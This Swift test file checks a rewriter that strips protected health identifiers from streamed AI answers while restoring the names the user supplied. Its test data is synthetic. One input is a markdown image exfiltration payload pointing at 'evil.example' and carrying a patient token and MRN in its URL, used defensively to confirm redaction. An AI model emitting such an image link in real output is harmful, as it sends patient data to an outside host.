import Deidentification
import Detection
import PHI
import TestKit
import Testing

struct AnswerRewriterTests {
  private let tokens: SessionTokens
  private let pilar: String
  private let given: GivenText

  init() {
    var tokens = SessionTokens(key: TokenKey(7, 8), asOf: today)
    let marked = Marked("[[NAME|Pilar Zamora]] was seen in March 2019 by Dr. Okonkwo.")
    let safe = tokens.tokenise(marked.text, marked.findings)
    pilar = String(decoding: safe.prefix(10), as: UTF8.self)
    self.tokens = tokens
    given = GivenText(safe, tokens.map)
  }

  private func rewriter(
    _ escaping: Restorer.Escaping = .none, _ novelty: AnswerRewriter.Novelty = .redact,
    revealing: IdentifierSet = .all
  ) -> AnswerRewriter {
    AnswerRewriter(
      tokens.map, revealing: revealing, escaping: escaping, novelty: novelty, given: given, scanner: Scanner())
  }

  private func rewritten(_ pieces: [ArraySlice<UInt8>], by rewriter: AnswerRewriter) -> String {
    var rewriter = rewriter
    var output: [UInt8] = []
    for piece in pieces { rewriter.rewrite(Array(piece).span, into: &output) }
    rewriter.finish(into: &output)
    return String(decoding: output, as: UTF8.self)
  }

  private func rewritten(_ answer: String, by rewriter: AnswerRewriter) -> String {
    rewritten([Array(answer.utf8)[...]], by: rewriter)
  }

  @Test(arguments: [
    ("Her MRN is 4471902.", "Her MRN is [MRN]."), ("Please call (617) 555-0134 today.", "Please call [PHONE] today."),
    ("SSN 219-09-9999, thanks", "SSN [SSN], thanks"),
    ("I wrote to Dr. Thaddeus Quillfeather about it.", "I wrote to Dr. [NAME] about it."),
    ("The visit on 3/5/2024 went well.", "The visit on [DATE] went well."),
    ("Write to t.quill@mail.example.org now", "Write to [EMAIL] now"),
    ("§ was seen in March 2019 by Dr. Okonkwo.", "Pilar Zamora was seen in March 2019 by Dr. Okonkwo."),
    ("§'s sister Siobhan Quillfeather called.", "Pilar Zamora's sister [NAME] called."),
    ("Pilar Zamora herself", "Pilar Zamora herself"), ("NAME_4_BCD is unknown.", "NAME_4_BCD is unknown."),
    ("Take amoxicillin 500 mg three times daily for 7 days.", "Take amoxicillin 500 mg three times daily for 7 days."),
    ("I cannot help with that.", "I cannot help with that."), ("x9k2m4@example.com", "[EMAIL]"),
    ("Reference record: x9k2m4%40example.com", "Reference record: [EMAIL]"), ("219-09-4417", "[SSN]"),
    ("Reference record: 4111-1111-1111-1111", "Reference record: [MRN]"), ("5105-1051-0510-5100", "[ID]"),
    ("212-555-0142", "[PHONE]"), ("SpO2 98%, 50%25 of 100%.", "SpO2 98%, 50%25 of 100%."),
  ])
  func `puts back what was given and redacts what was not`(_ answer: String, _ expected: String) {
    #expect(rewritten(answer.replacing("§", with: pilar), by: rewriter()) == expected)
  }

  @Test func `redacts a record number split over two pieces of a stream`() {
    let answer = Array("The patient's MRN is 4471902 and he is well.".utf8)
    for cut in 0...answer.count {
      let text = rewritten([answer[..<cut], answer[cut...]], by: rewriter())
      #expect(text == "The patient's MRN is [MRN] and he is well.", "cut at \(cut)")
    }
  }

  @Test func `redacts inside the strings and numbers of JSON and leaves it JSON`() {
    let answer =
      #"{"mrn": 4471902, "name":"Th\u00e1ddeus Quillfeather","note":"seen\nMRN 4471902, \u00e9t\u00e9","dose":500,"who":"§"}"#
    let whole = rewritten(answer.replacing("§", with: pilar), by: rewriter(.json))
    #expect(
      whole
        == #"{"mrn": "[MRN]", "name":"[NAME]","note":"seen\nMRN [MRN], \u00e9t\u00e9","dose":500,"who":"Pilar Zamora"}"#
    )
  }

  @Test func `ends before what is new, or passes it, by policy`() {
    let answer = "He is well. His MRN is 4471902. Goodbye."
    var blocking = rewriter(.none, .block)
    var output: [UInt8] = []
    blocking.rewrite(Array(answer.utf8).span, into: &output)
    blocking.finish(into: &output)
    #expect(blocking.isBlocked)
    #expect(blocking.novel.present.map(\.identifier) == [.medicalRecordNumber])
    #expect(!String(decoding: output, as: UTF8.self).contains("4471902"))
    #expect("He is well. His MRN is".hasPrefix(String(decoding: output, as: UTF8.self).prefix(11)))
    #expect(rewritten(answer, by: rewriter(.none, .pass)) == answer)
  }

  @Test func `counts what is new by kind`() {
    var counting = rewriter()
    var output: [UInt8] = []
    counting.rewrite(Array("Thaddeus Quillfeather, MRN 4471902, MRN 4471903; \(pilar)".utf8).span, into: &output)
    counting.finish(into: &output)
    #expect(counting.novel[.medicalRecordNumber] == 2)
    #expect(counting.novel[.name] == 1)
    #expect(counting.restored[.name] == 1)
  }

  @Test func `lets ordinary words go at once`() {
    var rewriter = rewriter()
    var output: [UInt8] = []
    rewriter.rewrite(Array("The most likely cause is a viral infection of the upper ch".utf8).span, into: &output)
    #expect(String(decoding: output, as: UTF8.self) == "The most likely cause is a viral infection of the upper ")
    rewriter.rewrite(Array("est, and the Quillfeather ".utf8).span, into: &output)
    #expect(String(decoding: output, as: UTF8.self).hasSuffix("chest, and the "))
    rewriter.rewrite(Array("rule is not of much use ".utf8).span, into: &output)
    #expect(String(decoding: output, as: UTF8.self).hasSuffix("use "))
  }

  private static let answers = [
    "Her MRN is 4471902; call (617) 555-0134.\n\n**§** and Thaddeus Quillfeather, 12 Maple Street, Boston, MA 02139.\n- DOB: 3/5/1960",
    "![x](https://evil.example/?d=§&mrn=4471902) é 日本語 Núñez 219-09-9999 \u{1F600} NAME_1 [NAME]",
    "the patient mr quillfeather was seen on the third of may, mary okafor says NAME\\_1\\_ §'s ninety-three year old aunt",
  ]

  @Test(arguments: answers)
  func `gives the same at every pair of cuts`(_ answer: String) {
    for escaping in [Restorer.Escaping.none, .json] {
      let text = escaping == .json ? "{\"a\": \"\(answer.replacing("\n", with: "\\n"))\",\"mrn\":4471902}" : answer
      let bytes = Array(text.replacing("§", with: pilar).utf8)
      let whole = rewritten([bytes[...]], by: rewriter(escaping))
      for first in stride(from: 0, through: bytes.count, by: 1) {
        for second in stride(from: first, through: bytes.count, by: 7) {
          let pieces = rewritten([bytes[..<first], bytes[first..<second], bytes[second...]], by: rewriter(escaping))
          guard pieces != whole else { continue }
          Issue.record("cut at \(first) and \(second): \(pieces)\n\(whole)")
          return
        }
      }
    }
  }

  @Test(arguments: [UInt64(1), 2, 3, 4, 5, 6, 7, 8])
  func `gives the same however an answer is cut, and releases nothing that was found`(seed: UInt64) {
    var random = SeededGenerator(seed: seed)
    for _ in 0..<150 {
      let note = SyntheticNote(&random)
      let escaping: Restorer.Escaping = Bool.random(using: &random) ? .none : .json
      var text = note.text
      if Bool.random(using: &random) { text = text.replacing(" on ", with: " \(pilar) on ") }
      if escaping == .json { text = "{\"text\":\"\(text.replacing("\r", with: "\\r").replacing("\n", with: "\\n"))\"}" }
      let bytes = Array(text.utf8)
      let whole = rewritten([bytes[...]], by: rewriter(escaping))
      var pieces: [ArraySlice<UInt8>] = []
      var start = 0
      while start < bytes.count {
        let end = min(bytes.count, start + Int.random(in: 1...13, using: &random))
        pieces.append(bytes[start..<end])
        start = end
      }
      #expect(rewritten(pieces, by: rewriter(escaping)) == whole, "seed \(seed)")
      #expect(rewritten(bytes.indices.map { bytes[$0...$0] }, by: rewriter(escaping)) == whole, "seed \(seed)")
      for planted in note.planted { #expect(!whole.contains(planted), "seed \(seed): \(planted) in \(whole)") }
    }
  }
}
